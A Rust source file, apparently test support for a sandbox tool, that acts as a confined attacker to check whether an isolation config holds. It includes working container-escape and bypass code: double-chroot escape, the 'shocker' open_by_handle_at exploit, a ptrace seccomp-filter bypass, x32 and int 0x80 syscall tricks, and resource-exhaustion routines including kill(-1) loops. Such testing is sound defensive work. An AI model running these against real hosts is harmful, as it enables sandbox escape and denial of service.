//! What the attacker does to show what a weak config gives it (`isolate lint`), and what the host prepares for that.
//! Each says `gained` on standard output when it worked, else why not.
#![allow(unsafe_code)]

use std::ffi::CString;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::exit;

use nix::errno::Errno;

/// Does `deed` to `word`.
pub fn act(deed: &str, word: &str) {
    if deed == "storm" {
        storm(word);
    }
    let done = match deed {
        "who" => who(),
        "leave-root" => leave_root(word),
        "open-by-handle" => open_by_handle(word),
        "read-shared-memory" => read_shared_memory(word),
        "measure-all" => measure_all(),
        "set-clock" => set_clock(),
        "door" => door(word),
        "connect-abstract" => connect_abstract(word),
        "trace-past-filter" => trace_past_filter(),
        "trace-all" => trace_all(),
        "connect" => UnixStream::connect(word).map(drop).map_err(|error| error.to_string()),
        _ => exit(64),
    };
    match done {
        Ok(()) => println!("gained"),
        Err(why) => println!("{deed}: {why}"),
    }
}

fn connect_abstract(name: &str) -> Result<(), String> {
    use std::os::linux::net::SocketAddrExt;
    let address =
        std::os::unix::net::SocketAddr::from_abstract_name(name).map_err(|error| error.to_string())?;
    UnixStream::connect_addr(&address).map(drop).map_err(|error| error.to_string())
}

fn errno() -> String {
    Errno::last().to_string()
}

/// Whether it is root by its effective id.
fn who() -> Result<(), String> {
    let uid = nix::unistd::geteuid();
    if uid.is_root() { Ok(()) } else { Err(uid.to_string()) }
}

/// A second chroot leaves the working folder outside of the new root; from there `..` leads to the real one.
fn leave_root(target: &str) -> Result<(), String> {
    std::fs::create_dir_all("/tmp/inner").map_err(|error| error.to_string())?;
    nix::unistd::chroot("/tmp/inner").map_err(|errno| errno.to_string())?;
    for _ in 0..64 {
        nix::unistd::chdir("..").map_err(|errno| errno.to_string())?;
    }
    nix::unistd::chroot(".").map_err(|errno| errno.to_string())?;
    std::fs::read(target).map(drop).map_err(|error| error.to_string())
}

const HANDLE: usize = 128;

#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    data: [u8; HANDLE],
}

/// The handle of a file, as `KIND:HEX`: what an attacker guesses, since they are numbers of inodes. `None` where the file
/// system has none.
pub fn handle_of(path: &Path) -> Option<String> {
    let path = CString::new(path.to_str().unwrap()).unwrap();
    let mut handle = Handle { bytes: HANDLE as u32, kind: 0, data: [0; HANDLE] };
    let mut mount = 0;
    // SAFETY: the path is NUL-terminated, and the handle says how much room it has.
    let result = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &raw mut handle,
            &raw mut mount,
            0,
        )
    };
    let hex: String =
        handle.data.iter().take(handle.bytes as usize).map(|byte| format!("{byte:02x}")).collect();
    (result == 0).then(|| format!("{}:{hex}", handle.kind))
}

/// Opens a file by its handle through the root's own file system (the "shocker" exploit), and reads it.
fn open_by_handle(text: &str) -> Result<(), String> {
    use std::io::Read;
    use std::os::fd::{AsRawFd, FromRawFd};
    let (kind, hex) = text.split_once(':').ok_or("no handle")?;
    let mut handle = Handle { bytes: (hex.len() / 2) as u32, kind: kind.parse().unwrap(), data: [0; HANDLE] };
    for at in 0..hex.len() / 2 {
        handle.data[at] = u8::from_str_radix(&hex[at * 2..at * 2 + 2], 16).unwrap();
    }
    let root = std::fs::File::open("/").map_err(|error| error.to_string())?;
    // SAFETY: the handle says how long it is, and outlives the call.
    let fd = unsafe {
        libc::syscall(libc::SYS_open_by_handle_at, root.as_raw_fd(), &raw mut handle, libc::O_RDONLY)
    };
    if fd < 0 {
        return Err(errno());
    }
    let mut text = String::new();
    // SAFETY: the kernel has just made this descriptor, and nobody else has it.
    let mut file = unsafe { std::fs::File::from_raw_fd(fd as i32) };
    file.read_to_string(&mut text).map_err(|error| error.to_string())?;
    if text.contains("secret") { Ok(()) } else { Err("another file".to_owned()) }
}

const SHARED: usize = 4096;

/// A segment of System V shared memory with a secret in it, removed with this.
pub struct SharedMemory(pub i32);

impl SharedMemory {
    /// Makes it.
    pub fn new() -> SharedMemory {
        // SAFETY: the call takes numbers.
        let id = unsafe { libc::shmget(libc::IPC_PRIVATE, SHARED, 0o600 | libc::IPC_CREAT) };
        assert!(id >= 0, "shmget: {}", errno());
        let memory = attach(id).unwrap();
        // SAFETY: the segment is that long, and attached.
        unsafe { std::ptr::copy_nonoverlapping(c"secret".as_ptr().cast(), memory, 7) };
        SharedMemory(id)
    }
}

impl Drop for SharedMemory {
    fn drop(&mut self) {
        // SAFETY: no structure is read or written by IPC_RMID.
        unsafe { libc::shmctl(self.0, libc::IPC_RMID, std::ptr::null_mut()) };
    }
}

fn attach(id: i32) -> Result<*mut u8, String> {
    // SAFETY: the kernel chooses the place.
    let memory = unsafe { libc::shmat(id, std::ptr::null(), 0) };
    if memory as isize == -1 { Err(errno()) } else { Ok(memory.cast()) }
}

fn read_shared_memory(id: &str) -> Result<(), String> {
    let memory = attach(id.parse().unwrap())?;
    // SAFETY: the segment is longer than this, and attached.
    let seen = unsafe { std::slice::from_raw_parts(memory, 6) };
    if seen == b"secret" { Ok(()) } else { Err("another segment".to_owned()) }
}

/// A counter on everything that a CPU runs, the kernel included.
fn measure_all() -> Result<(), String> {
    // The start of struct perf_event_attr: type PERF_TYPE_SOFTWARE, its size, PERF_COUNT_SW_CPU_CLOCK.
    let mut attributes = [0u32; 16];
    attributes[0] = 1;
    attributes[1] = 64;
    // SAFETY: the structure is as long as it says.
    let fd =
        unsafe { libc::syscall(libc::SYS_perf_event_open, attributes.as_ptr(), -1i64, 0i64, -1i64, 0i64) };
    if fd >= 0 { Ok(()) } else { Err(errno()) }
}

/// Asks for a change that the kernel refuses as nonsense, if it does not refuse to listen.
fn set_clock() -> Result<(), String> {
    // SAFETY: all zeroes are a valid value.
    let mut change: libc::timex = unsafe { std::mem::zeroed() };
    change.modes = libc::ADJ_TICK;
    // SAFETY: the structure outlives the call.
    unsafe { libc::adjtimex(&raw mut change) };
    if Errno::last() == Errno::EINVAL { Ok(()) } else { Err(errno()) }
}

/// Takes as much of something as it gets, says `ready`, how much, and why no more, and keeps it.
fn storm(what: &str) -> ! {
    let mut count = 0;
    let why = match what {
        "inodes" => until_refused(&mut count, |number| {
            std::fs::File::create(format!("/dev/shm/{number}")).map(drop).map_err(|error| error.to_string())
        }),
        "descriptors" => {
            let _ = nix::sys::resource::getrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE).and_then(
                |(_, hard)| {
                    nix::sys::resource::setrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE, hard, hard)
                },
            );
            until_refused(&mut count, |_| {
                std::fs::File::open("/dev/null").map(std::mem::forget).map_err(|error| error.to_string())
            })
        }
        "inotify" => until_refused(&mut count, |_| watch()),
        "pending" => until_refused(&mut count, |_| queue_signal()),
        "events" => until_refused(&mut count, |_| reserve_events()),
        "keys" => until_refused(&mut count, |number| {
            let name = CString::new(number.to_string()).unwrap();
            let kind = c"user".as_ptr();
            // SAFETY: strings with a NUL at their end, and one byte of payload.
            let key =
                unsafe { libc::syscall(libc::SYS_add_key, kind, name.as_ptr(), name.as_ptr(), 1i64, -3i64) };
            if key < 0 { Err(errno()) } else { Ok(()) }
        }),
        "signals" => {
            println!("ready");
            loop {
                for signal in [libc::SIGUSR1, libc::SIGCONT, libc::SIGKILL, libc::SIGRTMAX()] {
                    // SAFETY: numbers. To all but itself and the first process, which is itself.
                    unsafe { libc::kill(-1, signal) };
                }
            }
        }
        "calls" => {
            println!("ready");
            loop {
                // SAFETY: numbers alone.
                unsafe { libc::syscall(libc::SYS_getppid) };
                let _ = std::fs::metadata("/proc/self/status");
            }
        }
        _ => exit(64),
    };
    println!("ready {count} {why}");
    loop {
        nix::unistd::pause();
    }
}

fn until_refused(count: &mut usize, mut take: impl FnMut(usize) -> Result<(), String>) -> String {
    loop {
        if let Err(why) = take(*count) {
            return why;
        }
        *count += 1;
    }
}

fn watch() -> Result<(), String> {
    // SAFETY: the call takes a number.
    if unsafe { libc::inotify_init1(libc::IN_CLOEXEC) } < 0 { Err(errno()) } else { Ok(()) }
}

/// One more signal that waits to be taken, for ever.
fn queue_signal() -> Result<(), String> {
    use nix::sys::signal::{SigSet, SigmaskHow, sigprocmask};
    let _ = sigprocmask(SigmaskHow::SIG_BLOCK, Some(&SigSet::all()), None);
    let value = libc::sigval { sival_ptr: std::ptr::null_mut() };
    // SAFETY: numbers; the value is one that nobody reads.
    if unsafe { libc::sigqueue(libc::getpid(), libc::SIGRTMAX(), value) } < 0 { Err(errno()) } else { Ok(()) }
}

/// Whether this process gets a timer, for which the kernel sets a signal aside that its user has left.
pub fn can_set_timers() -> bool {
    let mut timer: libc::timer_t = std::ptr::null_mut();
    // SAFETY: the kernel writes one timer_t, and is given it back.
    unsafe {
        libc::timer_create(libc::CLOCK_MONOTONIC, std::ptr::null_mut(), &raw mut timer) == 0
            && libc::timer_delete(timer) == 0
    }
}

/// Room for 256 asynchronous requests: the kernel counts those of the whole machine (`fs.aio-max-nr`), and nobody's.
fn reserve_events() -> Result<(), String> {
    let mut context = 0usize;
    // SAFETY: the kernel writes one word, which is valid during the call.
    if unsafe { libc::syscall(libc::SYS_io_setup, 256, &raw mut context) } < 0 {
        Err(errno())
    } else {
        Ok(())
    }
}

/// A child that is traced makes a harmless call, and its tracer puts the number of a refused one in its place: before Linux
/// 4.8 filters were asked first. `gained`: the other call was made.
fn trace_past_filter() -> Result<(), String> {
    use nix::sys::ptrace;
    use nix::sys::wait::{WaitStatus, waitpid};
    // SAFETY: this process has one thread.
    let child = match unsafe { nix::unistd::fork() }.map_err(|errno| errno.to_string())? {
        nix::unistd::ForkResult::Parent { child } => child,
        nix::unistd::ForkResult::Child => {
            let _ = ptrace::traceme();
            let _ = nix::sys::signal::raise(nix::sys::signal::Signal::SIGSTOP);
            // SAFETY: numbers alone; to be replaced by `unshare` with the same argument.
            let answer = unsafe { libc::syscall(libc::SYS_umask, libc::CLONE_NEWUTS) };
            exit(i32::from(answer == 0))
        }
    };
    let told = |errno: Errno| format!("ptrace: {errno}");
    loop {
        match waitpid(child, None).map_err(|errno| errno.to_string())? {
            WaitStatus::Exited(_, 1) => return Ok(()),
            WaitStatus::Exited(..) => return Err("the filter was asked".to_owned()),
            WaitStatus::Stopped(..) => {
                let mut registers = ptrace::getregs(child).map_err(told)?;
                if registers.orig_rax == libc::SYS_umask as u64 {
                    registers.orig_rax = libc::SYS_unshare as u64;
                    ptrace::setregs(child, registers).map_err(told)?;
                }
                ptrace::syscall(child, None).map_err(told)?;
            }
            other => return Err(format!("{other:?}")),
        }
    }
}

/// Traces every process that has a number, but itself. `gained`: one was there to be traced.
fn trace_all() -> Result<(), String> {
    use nix::sys::ptrace;
    let own = nix::unistd::getpid();
    for number in (1..=4_194_304).map(nix::unistd::Pid::from_raw).filter(|pid| *pid != own) {
        if ptrace::seize(number, ptrace::Options::empty()).is_ok() {
            println!("{number}");
            return Ok(());
        }
    }
    Err("no process is there".to_owned())
}

/// Whether this process gets an inotify instance.
pub fn can_watch() -> bool {
    // SAFETY: the call takes a number.
    let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC) };
    // SAFETY: nobody else has it.
    unsafe { libc::close(fd) };
    fd >= 0
}

/// A harmless call by the numbers of another architecture: the filter must end this process.
fn door(name: &str) -> Result<(), String> {
    const X32: i64 = 0x4000_0000;
    let answer: i64 = match name {
        // SAFETY: getppid has no argument.
        "x32" => unsafe { libc::syscall(X32 | libc::SYS_getppid) },
        _ => {
            let mut answer: i64 = 64;
            // SAFETY: number 64 of i386 is getppid, without argument; the call changes rax alone.
            unsafe {
                std::arch::asm!("int 0x80", inout("rax") answer, out("r8") _, out("r9") _, out("r10") _, out("r11") _)
            };
            answer
        }
    };
    if answer >= 0 { Ok(()) } else { Err(answer.to_string()) }
}
